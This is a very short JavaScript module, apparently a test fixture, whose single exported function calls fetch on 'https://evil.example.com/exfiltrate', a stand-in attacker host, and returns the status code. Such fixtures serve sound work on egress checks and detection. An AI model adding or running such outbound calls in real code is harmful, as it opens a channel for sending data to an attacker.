export default async function run() {
  return (await fetch("https://evil.example.com/exfiltrate")).status;
}
